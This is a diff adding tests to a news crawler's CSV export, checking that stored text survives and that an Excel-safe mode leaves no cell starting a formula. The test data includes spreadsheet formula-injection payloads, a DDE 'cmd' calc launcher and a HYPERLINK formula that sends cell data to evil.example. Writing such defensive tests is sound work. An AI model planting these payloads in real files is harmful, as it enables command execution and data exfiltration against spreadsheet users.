@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import os
+import re
 import stat
 import subprocess
 import sys
@@ -22,6 +23,8 @@ from crawler.archive import Archive
 from crawler.archive.schema import BY_NAME
 from crawler.errors import ArchiveMissing, ConfigError, NewsarchiveError
 from crawler.export import COLUMNS, ExportFilter, ExportOptions, export
+from crawler.export import writing
+from crawler.export.columns import COLUMNS_BY_NAME
 from crawler.models import Article
 from tests.memory import PEAK
 
@@ -31,6 +34,7 @@ ALL = ExportFilter()
 CSV = ExportOptions()
 JSONL = ExportOptions(format="jsonl")
 Row = dict[str, str]
+csv.field_size_limit(16 * 1024**2)    # Python's own reader stops at 128 KB a cell
 
 
 @pytest.fixture(scope="module")
@@ -171,6 +175,54 @@ def test_any_text_comes_back(one_article: Path, text: str) -> None:
     assert stored.replace("\0", "") == rows(one_article)[0]["headline"]
     assert "\0" not in written(one_article)
     assert stored == json.loads(written(one_article, options=JSONL))["headline"]
+
+
+HOSTILE_CELLS = (
+    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", '"=1', '"" =1',
+    "'=1", "a;=1+1", "a; =1+1;", "a\t=1+1\t", "a\n=1+1", "a\r=1+1;b", "a\n\n;\t =1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)',
+    '","=1+1","', '";=1+1;"', '"\n=1+1\n"', "a,b", 'say "x"', '"', '""', "'", ";", "\n", "\r", "\r\n", "\t", " ", "a\x00b", "\x1b[31m", "\u202ex", "\u2028=1",
+    "- one\n- two\n- three", "x" * 1_000_000, "\n" * 1_000_000, "=" * 100_000, "🜚" * 1000,
+)
+
+
+@pytest.mark.parametrize("cell", HOSTILE_CELLS, ids=lambda cell: ascii(cell[:20]))
+def test_hostile_cells_come_back(one_article: Path, cell: str) -> None:
+    """Without --excel-safe a cell is the text as stored, byte for byte, NUL aside: no reader of CSV is sent more or less."""
+    change(one_article, "headline", cell)
+    began = time.process_time()
+    assert cell.replace("\0", "") == rows(one_article, options=ExportOptions(columns=("headline", "url")))[0]["headline"]
+    safe = rows(one_article, options=ExportOptions(columns=("headline",), excel_safe=True))[0]["headline"]
+    assert cell.replace("\0", "").replace("'", "") == safe.replace("'", "")    # nothing but apostrophes is added
+    assert time.process_time() - began < 2
+
+
+def formulas(text: str) -> list[str]:
+    """The cells that a spreadsheet would run, whatever separator it expects and whether or not it reads the quotes."""
+    read = [cell for separator in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+    wrong = [cell for separator in ";\t" for line in re.split("[\r\n]", text) for cell in line.split(separator)]
+    bare = (cell.lstrip(' \t\r\n"\u00a0\u3000\u200b\ufeff') for cell in (*read, *wrong))
+    return [cell for cell in bare if cell.startswith(tuple("=+-@＝＋－＠"))]
+
+
+SPREADSHEET = st.text(st.sampled_from(list("=+-@\t\r\n＝＋－＠ ;,|\"'a1\u00a0\u200b\ufeff")), max_size=25) | st.sampled_from(HOSTILE_CELLS[:45])
+
+
+@settings(max_examples=400, deadline=None)
+@given(one=SPREADSHEET, other=SPREADSHEET)
+def test_excel_safe_holds_no_formula(one: str, other: str) -> None:
+    """With --excel-safe no cell begins a formula: nor where the reader takes semicolons or tabs for separators and so sees other cells."""
+    file = io.BytesIO()
+    names = ("headline", "section", "url", "tags")
+    write = writing._csv_writer(file, tuple(COLUMNS_BY_NAME[name] for name in names), ExportOptions(excel_safe=True))
+    write((one, other, f"https://one.example/{one}", json.dumps([one, other])))
+    assert [] == formulas(file.getvalue().decode())
+
+
+def test_formulas_are_seen_without_it(one_article: Path) -> None:
+    """The check above finds what it looks for: in a comma's file, in one that a semicolon's reader splits, behind a line break."""
+    for cell, seen in (("=1+1", "=1+1"), ("a;=1+1;b", "=1+1"), ("a\n=1+1;b", "=1+1")):
+        change(one_article, "headline", cell)
+        assert seen in formulas(written(one_article, options=ExportOptions(columns=("headline", "url"))))
 
 
 def test_broken_bytes_of_a_foreign_archive(one_article: Path) -> None:
